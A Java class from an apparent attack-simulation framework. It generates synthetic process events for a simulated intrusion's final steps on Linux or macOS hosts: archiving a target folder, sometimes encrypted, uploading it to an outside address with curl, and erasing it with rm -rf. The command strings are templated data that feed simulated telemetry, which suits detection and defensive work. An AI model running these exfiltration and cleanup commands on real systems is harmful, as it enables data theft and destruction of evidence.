package org.stagewatch.simulation.attack;

import org.stagewatch.simulation.chance.Dice;
import org.stagewatch.simulation.chance.Words;
import org.stagewatch.simulation.enterprise.Account;
import org.stagewatch.simulation.enterprise.Host;
import org.stagewatch.simulation.enterprise.HostRole;
import org.stagewatch.simulation.event.Program;
import org.stagewatch.simulation.event.Programs;
import org.stagewatch.simulation.event.RunningProcess;
import org.stagewatch.simulation.story.Scene;

/// What comes after the gathering on a host with Linux or macOS.
final class UnixFinish {
    private final Scene scene;
    private final Attack attack;
    private final Host host;
    private final Dice dice;
    private final RunningProcess shell;

    UnixFinish(Scene scene, Attack attack) {
        this.scene = scene;
        this.attack = attack;
        this.host = attack.place().host();
        this.dice = scene.dice();
        boolean isMac = host.role() == HostRole.MAC;
        this.shell = scene.running(
                host,
                isMac ? Programs.ZSH : Programs.BASH,
                Account.linux(host, attack.account().name()),
                isMac ? "-zsh" : "-bash");
    }

    /// Packs the folder and gives the archive's path.
    String pack() {
        String folder = attack.place().path();
        String name = folder + "." + Words.shortName(dice);
        long size = dice.around(60_000_000, 0.8);
        if (host.role() == HostRole.MAC) {
            return packOnMac(folder, name, size);
        }
        return switch (dice.between(0, 3)) {
            case 0 ->
                made(
                        Programs.ZIP,
                        "zip -r" + dice.oneOf("q ", "qe ", " ") + name + ".zip " + folder,
                        name + ".zip",
                        size);
            case 1 -> {
                String archive = made(Programs.TAR, "tar cf " + name + ".tar " + folder, name + ".tar", size);
                yield made(
                        Programs.GPG,
                        "gpg --batch --yes --passphrase " + dice.hex(12) + " -c " + archive,
                        archive + ".gpg",
                        size);
            }
            default ->
                made(
                        Programs.TAR,
                        "tar " + dice.oneOf("czf ", "-cjf ", "-czpf ") + name + ".tar.gz " + folder,
                        name + ".tar.gz",
                        size);
        };
    }

    private String packOnMac(String folder, String name, long size) {
        return switch (dice.between(0, 2)) {
            case 0 ->
                made(
                        Programs.DITTO,
                        "ditto -c -k --sequesterRsrc " + folder + " " + name + ".zip",
                        name + ".zip",
                        size);
            case 1 ->
                made(
                        Programs.HDIUTIL,
                        "hdiutil create -srcfolder " + folder
                                + dice.oneOf(" -encryption AES-256 -stdinpass ", " -format UDZO ") + name + ".dmg",
                        name + ".dmg",
                        size);
            default -> made(Programs.ZIP, "zip -er " + name + ".zip " + folder, name + ".zip", size);
        };
    }

    private String made(Program program, String commandLine, String archive, long size) {
        RunningProcess packer = scene.start(host, shell, program, commandLine);
        scene.seconds(3, 200).create(host, packer, archive, size);
        return archive;
    }

    void leave(String archive) {
        switch (attack.egress()) {
            case CURL -> {
                String site = Words.site(dice);
                String address = Words.publicAddress(dice);
                RunningProcess uploader = scene.start(
                        host,
                        shell,
                        Programs.CURL,
                        "curl " + dice.oneOf("-T ", "-F file=@", "--upload-file ") + archive + " https://"
                                + dice.oneOf(site, address) + "/" + Words.shortName(dice));
                for (int i = dice.between(1, 8); i > 0; i--) {
                    scene.seconds(1, 60).connect(host, uploader, address, 443, site);
                }
            }
            case WEB_DOWNLOAD -> {
                RunningProcess worker =
                        scene.running(host, Programs.NGINX, Account.linux(host, "www-data"), "nginx: worker process");
                String address = Words.publicAddress(dice);
                for (int i = dice.between(3, 15); i > 0; i--) {
                    scene.seconds(5, 120).accept(host, worker, 443, address);
                }
            }
            default -> scene.seconds(1, 2);
        }
    }

    void cleanUp(String archive) {
        RunningProcess eraser =
                scene.start(host, shell, Programs.RM, "rm -rf " + attack.place().path() + " " + archive);
        scene.delete(host, eraser, archive, 0);
    }
}
